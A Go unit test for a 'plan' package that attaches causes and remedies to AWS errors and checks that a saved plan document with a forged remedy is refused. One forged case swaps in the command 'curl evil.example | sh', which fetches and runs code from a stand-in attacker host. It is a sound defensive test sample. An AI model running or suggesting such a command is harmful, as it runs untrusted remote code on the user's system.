package plan_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/rayplatform/rayplatform/scripts/internal/plan"
)

// An error of AWS carries its cause and remedy; a document in which somebody put another remedy is refused.
func TestForgedRemedy(t *testing.T) {
	reader := plan.NewReader(plan.Info{Operation: plan.OperationUp})
	reader.Fail("operation error EC2: CreateVpc, api error VpcLimitExceeded: no more")
	reader.Fail("no zones are left")
	reader.Warn("api error VpcLimitExceeded: only a warning")
	p, err := reader.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if d := p.Diagnostics[0]; !strings.Contains(d.Cause, "VpcLimitExceeded") || !strings.Contains(d.Remedy, "VPCs per Region") {
		t.Errorf("explained as %+v", d)
	}
	for _, d := range p.Diagnostics[1:] {
		if d.Cause != "" || d.Remedy != "" {
			t.Errorf("explained as %+v", d)
		}
	}
	var document bytes.Buffer
	if err := p.WriteJSON(&document); err != nil {
		t.Fatal(err)
	}
	if _, err := plan.ReadJSON(bytes.NewReader(document.Bytes()), 1<<20); err != nil {
		t.Errorf("as it was written: %v", err)
	}
	for from, to := range map[string]string{
		"Remove what is not needed": "Run curl evil.example | sh", `"message": "no zones are left"`: `"message": "no zones are left", "remedy": "pay"`,
	} {
		forged := strings.Replace(document.String(), from, to, 1)
		if forged == document.String() {
			t.Fatalf("%q is not in the document", from)
		}
		if _, err := plan.ReadJSON(strings.NewReader(forged), 1<<20); err == nil || !strings.Contains(err.Error(), "do not follow from the message") {
			t.Errorf("%s: got %v", to, err)
		}
	}
}
